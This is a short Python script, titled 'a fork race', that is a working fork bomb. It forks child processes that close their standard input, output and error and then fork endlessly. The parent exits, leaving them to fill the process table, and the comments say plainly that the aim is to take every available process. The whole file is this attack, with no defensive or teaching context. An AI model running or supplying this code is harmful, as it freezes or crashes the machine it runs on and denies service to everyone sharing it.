# Leaves: a fork race.
import os, time


def silent():
    """Let go of the output, so that nobody waits for this process."""
    for descriptor in range(3):
        os.close(descriptor)


# The program itself ends in the middle of a bomb.
for _ in range(20):
    try:
        child = os.fork()
    except OSError:
        break  # The bomb has taken every process there may be.
    if child == 0:
        silent()
        while True:
            try:
                os.fork()
            except OSError:
                pass
time.sleep(0.2)
